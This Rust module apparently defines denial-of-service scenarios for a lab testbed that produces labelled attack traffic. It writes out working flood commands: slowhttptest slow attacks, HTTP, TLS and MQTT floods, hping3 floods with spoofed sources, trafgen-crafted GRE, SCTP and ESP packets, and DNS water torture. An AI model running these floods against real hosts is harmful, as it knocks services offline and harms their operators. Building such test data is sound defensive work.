//! Floods and exhaustion: of packets, connections, requests and messages.

use super::super::recipe::{
    ATTACK, Check, Ends, Lane, Mark, Recipe, Variant, WAN, inside, on, outside, variant,
};
use super::databases::MOSQUITTO;
use super::names::{AUTH, RESOLVER};
use super::services::NGINX;

/// Connections that slowhttptest holds.
const SLOW: &[Variant] = &[
    variant("c12", &[("CONNECTIONS", "12")]).over(WAN),
    variant("c60", &[("CONNECTIONS", "60")]).over(WAN).v6(),
    variant("c200", &[("CONNECTIONS", "200")]).over(WAN).busy(),
];

macro_rules! slow {
    ($name:literal, $attack:literal, $about:literal, $options:literal) => {
        Recipe {
            name: $name,
            attack: $attack,
            about: $about,
            group: "slowhttptest",
            packages: &["slowhttptest"],
            services: &[NGINX.on("server")],
            steps: &[on(
                "attacker",
                concat!(
                    "timeout 45 slowhttptest -c $CONNECTIONS -r 20 -i 8 -l 35 -p 3 ",
                    $options,
                    " -u http://$SERVER_URL/100k || true"
                ),
            )],
            variants: SLOW,
            checks: &[Check::Packets("tcp/80", 80)],
            ..ATTACK
        }
    };
}

/// Sources and requests of a flood of requests.
const REQUESTS: &[Variant] = &[
    variant(
        "strong",
        &[("COUNT", "1500"), ("TASKS", "20"), ("RATE", "200")],
    )
    .over(WAN),
    variant("weak", &[("COUNT", "500"), ("TASKS", "4"), ("RATE", "25")])
        .over(WAN)
        .v6(),
    variant(
        "busy",
        &[("COUNT", "1000"), ("TASKS", "20"), ("RATE", "100")],
    )
    .over(WAN)
    .busy(),
];

const REQUEST_FLOOD: Recipe = Recipe {
    attack: "http_flood",
    services: &[NGINX.on("server")],
    variants: REQUESTS,
    checks: &[
        Check::Packets("tcp/80", 1_000),
        Check::Says("nginx", "\" 200 ", 300),
    ],
    limit_s: 60,
    ..ATTACK
};

/// Floods from twenty sources.
const MANY: Recipe = Recipe {
    roles: &[inside("server", 1), outside("attacker", 20)],
    ..REQUEST_FLOOD
};

/// Rates and lengths of a flood of packets.
const PACKETS: &[Variant] = &[
    variant(
        "strong",
        &[("INTERVAL", "u200"), ("RATE", "4000"), ("COUNT", "40000")],
    ),
    variant(
        "weak",
        &[("INTERVAL", "u20000"), ("RATE", "50"), ("COUNT", "1000")],
    )
    .over(WAN),
    variant(
        "busy",
        &[("INTERVAL", "u2000"), ("RATE", "400"), ("COUNT", "8000")],
    )
    .over(WAN)
    .busy(),
];

macro_rules! hping {
    ($name:literal, $attack:literal, $about:literal, $options:literal, $check:literal) => {
        Recipe {
            name: $name,
            attack: $attack,
            about: $about,
            group: "hping3",
            packages: &["hping3"],
            services: &[NGINX.on("server")],
            steps: &[on(
                "attacker",
                concat!(
                    "hping3 -q -i $INTERVAL -c $COUNT ",
                    $options,
                    " $SERVER || true"
                ),
            )],
            marks: &[Mark::Forged("attacker")],
            variants: PACKETS,
            checks: &[Check::Packets($check, 900)],
            lane: Lane::Alone,
            limit_s: 60,
            ..ATTACK
        }
    };
}

macro_rules! trafgen {
    ($name:literal, $attack:literal, $about:literal, $packet:literal, $check:literal) => {
        Recipe {
            name: $name,
            attack: $attack,
            about: $about,
            group: "trafgen",
            packages: &["netsniff-ng"],
            steps: &[on(
                "attacker",
                concat!(
                    "echo \"{ eth(da=$OUTER_MAC, sa=$ATTACKER_MAC), ", $packet, " }\" >packet.cfg
                    timeout 50 trafgen -o eth0 -i packet.cfg -n $COUNT -b ${RATE}pps -P 1 -q || test $? = 124"
                ),
            )],
            variants: PACKETS,
            checks: &[Check::Packets($check, 900)],
            lane: Lane::Alone,
            limit_s: 60,
            ..ATTACK
        }
    };
}

pub const RECIPES: &[Recipe] = &[
    slow!("slow_headers", "slow_http_dos", "slowhttptest never ends its headers", "-H"),
    slow!("slow_body", "slow_http_dos", "slowhttptest never ends its bodies", "-B"),
    slow!("slow_range", "slow_http_range", "slowhttptest asks for very many ranges", "-R"),
    slow!("slow_read", "slow_read", "slowhttptest reads answers very slowly", "-X -w 10 -y 20 -n 5 -z 8 -k 3"),
    Recipe {
        name: "ab_flood",
        about: "ApacheBench asks as fast as it can, a connection each",
        group: "ab",
        packages: &["apache2-utils"],
        steps: &[on("attacker", "ab -r -q -n $COUNT -c $TASKS http://$SERVER_URL/1k >/dev/null")],
        ..REQUEST_FLOOD
    },
    Recipe {
        name: "ab_keep_alive_flood",
        about: "ApacheBench asks as fast as it can in few connections",
        group: "ab",
        packages: &["apache2-utils"],
        steps: &[on("attacker", "ab -k -r -q -n $((COUNT * 4)) -c $TASKS http://$SERVER_URL/1k >/dev/null")],
        ..REQUEST_FLOOD
    },
    Recipe {
        name: "siege_flood",
        about: "siege asks from twenty sources",
        group: "siege",
        packages: &["siege"],
        steps: &[on("attacker", "siege -q -b -c $((TASKS / 4)) -r $((COUNT / 20 / (TASKS / 4))) http://$SERVER_URL/10k || true")],
        ..MANY
    },
    Recipe {
        name: "wrk_flood",
        about: "wrk asks from one source in a few connections",
        group: "wrk",
        packages: &["wrk"],
        steps: &[on("attacker", "wrk -t 1 -c $TASKS -d 8s http://$SERVER_URL/1k")],
        variants: &[
            variant("strong", &[("TASKS", "20")]).over(WAN),
            variant("busy", &[("TASKS", "5")]).over(WAN).busy(),
        ],
        ..REQUEST_FLOOD
    },
    Recipe {
        name: "wrk_flood_spread",
        about: "wrk asks from twenty sources, each in one connection",
        group: "wrk",
        packages: &["wrk"],
        steps: &[on("attacker", "wrk -t 1 -c 1 -d 12s http://$SERVER_URL/1k")],
        variants: &[
            variant("strong", &[("TASKS", "1")]).over(WAN),
            variant("busy", &[("TASKS", "1")]).over(WAN).busy(),
        ],
        ..MANY
    },
    Recipe {
        name: "tls_handshake_flood",
        about: "openssl s_time makes handshakes and nothing else",
        attack: "tls_handshake_flood",
        group: "openssl",
        packages: &["openssl"],
        steps: &[on(
            "attacker",
            "for n in $(seq $TASKS); do timeout 15 openssl s_time -new -time 10 -connect $SERVER_URL:443 >/dev/null 2>&1 & done; wait; true",
        )],
        checks: &[Check::Packets("tcp/443", 1_000)],
        ..REQUEST_FLOOD
    },
    Recipe {
        name: "mqtt_connect_flood",
        about: "connections to a message broker, one after the other",
        attack: "mqtt_flood",
        group: "mosquitto",
        packages: &["mosquitto-clients"],
        services: &[MOSQUITTO.on("server")],
        steps: &[on(
            "attacker",
            "one() { for n in $(seq $((COUNT / TASKS))); do mosquitto_pub -h $SERVER -u ops -P $PASSWORD -t x -n; done; }
            for n in $(seq $TASKS); do one & done; wait; true",
        )],
        checks: &[Check::Packets("tcp/1883", 3_000)],
        ..REQUEST_FLOOD
    },
    Recipe {
        name: "mqtt_publish_flood",
        about: "messages to a broker over one connection as fast as they go",
        attack: "mqtt_flood",
        group: "mosquitto",
        packages: &["mosquitto-clients"],
        services: &[MOSQUITTO.on("server")],
        steps: &[on(
            "attacker",
            "seq $((COUNT * 4)) | mosquitto_pub -h $SERVER -u ops -P $PASSWORD -q 1 -t flood -l",
        )],
        checks: &[Check::Packets("tcp/1883", 500)],
        ..REQUEST_FLOOD
    },
    hping!("rst_flood", "rst_flood", "hping3 sends RSTs", "-R -p 80", "tcp"),
    hping!("fin_flood", "fin_flood", "hping3 sends FINs from forged sources", "-F -p 80 --rand-source", "tcp"),
    hping!("udp_closed_flood", "udp_flood", "hping3 sends datagrams to a port that nobody serves", "-2 -p 9999 -d 200", "udp"),
    hping!("icmp_forged_flood", "icmp_flood", "hping3 sends echoes from forged sources", "-1 --rand-source", "icmp"),
    trafgen!("gre_flood", "gre_flood", "trafgen sends GRE", "ipv4(sa=$ATTACKER, da=$SERVER, proto=47, ttl=64), fill(0x00, 4), drnd(64)", "gre"),
    trafgen!("sctp_flood", "sctp_flood", "trafgen sends SCTP INITs from ports that change",
        "ipv4(sa=$ATTACKER, da=$SERVER, proto=132, ttl=64), drnd(2), c16(5060), fill(0x00, 4), drnd(4), 0x01, 0x00, c16(20), drnd(4), c32(65535), c16(10), c16(10), drnd(4)", "sctp"),
    trafgen!("esp_flood", "esp_flood", "trafgen sends ESP", "ipv4(sa=$ATTACKER, da=$SERVER, proto=50, ttl=64), drnd(4), dinc(0, 255), drnd(96)", "esp"),
    Recipe {
        name: "udp_ramp",
        about: "datagrams that nobody answers, more and more of them",
        attack: "udp_flood",
        group: "hping3",
        packages: &["hping3", "socat"],
        steps: &[
            on("server", "exec socat -u UDP4-RECV:7000 OPEN:/dev/null").ends(Ends::WithTheScene),
            on(
                "attacker",
                "for interval in $STEPS; do timeout 6 hping3 -q -2 -p 7000 -d 100 -i u$interval $SERVER; done; true",
            ),
        ],
        variants: &[
            variant("slow", &[("STEPS", "100000 50000 20000 10000 5000 2000 1000 400")]),
            variant("busy", &[("STEPS", "50000 10000 2000 500")]).busy(),
        ],
        checks: &[Check::Packets("udp/7000", 3_000)],
        lane: Lane::Alone,
        ..ATTACK
    },
    Recipe {
        name: "dns_water_torture",
        about: "names that exist nowhere, asked through a resolver to exhaust who is asked in the end",
        attack: "dns_water_torture_flood",
        group: "dnsperf",
        packages: &["dnsperf"],
        roles: &[inside("resolver", 1), outside("auth", 1), inside("attacker", 4)],
        services: &[AUTH.on("auth"), RESOLVER.on("resolver")],
        steps: &[on(
            "attacker",
            "python3 -c \"
import random
r = random.Random('$SEED$NUMBER')
print(*(''.join(r.choice('abcdefghijklmnopqrstuvwxyz0123456789') for _ in range(12)) + '.shop.example A' for _ in range(20000)), sep='\\n')\" >names
            dnsperf -s $RESOLVER -d names -Q $RATE -l 15 -c 4 -n 1",
        )],
        marks: &[Mark::Of("attacker"), Mark::Service("resolver", "auth", 53)],
        variants: &[
            variant("strong", &[("RATE", "250")]).over(WAN),
            variant("weak", &[("RATE", "15")]).over(WAN),
            variant("busy", &[("RATE", "80")]).over(WAN).busy(),
        ],
        checks: &[Check::Packets("udp/53", 1_000)],
        ..ATTACK
    },
    Recipe {
        name: "dns_tcp_flood",
        about: "questions over TCP, in few connections",
        attack: "dns_tcp_flood",
        group: "dnsperf",
        packages: &["dnsperf"],
        services: &[AUTH.on("resolver")],
        roles: &[inside("resolver", 1), outside("auth", 1), outside("attacker", 1)],
        steps: &[on(
            "attacker",
            "seq -f 'h%g.cdn.example A' 5000 >names; dnsperf -m tcp -s $RESOLVER -d names -Q $RATE -l 12 -c $TASKS",
        )],
        variants: REQUESTS,
        checks: &[Check::Packets("tcp/53", 300)],
        ..ATTACK
    },
];
